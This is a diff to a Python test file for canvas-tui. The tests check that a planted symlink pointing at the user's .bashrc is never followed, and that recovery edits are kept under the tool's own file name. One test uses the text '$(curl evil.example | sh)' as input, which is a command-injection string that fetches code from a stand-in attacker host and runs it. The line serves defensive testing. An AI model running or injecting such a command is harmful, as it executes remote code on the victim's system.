@@ -75,15 +75,34 @@ def test_a_planted_recovery_link_is_never_written_read_or_removed(example: Path,
         f"{planted}: is a symbolic link; canvas-tui does not follow links it did not create"
     ]
     session.set_text("lifetime", "$(curl evil.example | sh)")
-    record = session.take_recovery()
-    assert record is not None
+    assert session.write_recovery_now(), "the edits are kept all the same, under a name of our own"
+    assert session.recovery_path == recovery.recovery_path(example, ME.token)
+    kept = recovery.read(session.recovery_path)
+    assert kept is not None and kept.mine.blocks["lifetime"].text == "$(curl evil.example | sh)"
     with pytest.raises(FileRefused) as caught:
-        session.write_recovery(record)
-    assert "\n" not in str(caught.value)
-    assert not session.write_recovery_now()
+        recovery.write(planted, example, kept.base or kept.mine, kept.mine, ME)
+    assert (
+        str(caught.value)
+        == f"{planted}: is a symbolic link; canvas-tui does not follow links it did not create"
+    )
     session.close()
     assert bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"
     assert planted.is_symlink(), "a clean exit leaves the planted link where it is"
+    assert not os.path.lexists(recovery.recovery_path(example, ME.token)), "and removes our own file"
+
+
+def test_edits_kept_beside_a_planted_link_are_offered_after_a_crash(example: Path, bashrc: Path) -> None:
+    planted = recovery.recovery_path(example)
+    planted.symlink_to(bashrc)
+    crashed = Session(CanvasFile.load(example), me=GONE, alive=lambda instance: False)
+    crashed.claim()
+    crashed.set_text("lifetime", "Typed before the crash.")
+    assert crashed.write_recovery_now()
+    lock_path(example).unlink()  # what is left of a crashed instance: its lock is stale anyway
+    session = open_session(example)
+    offers = session.recovery_offers()
+    assert [offer.source.path for offer in offers] == [recovery.recovery_path(example, GONE.token)]
+    assert planted.is_symlink() and bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"
 
 
 def test_a_recovery_link_to_a_real_recovery_file_is_not_offered(example: Path, tmp_path: Path) -> None:
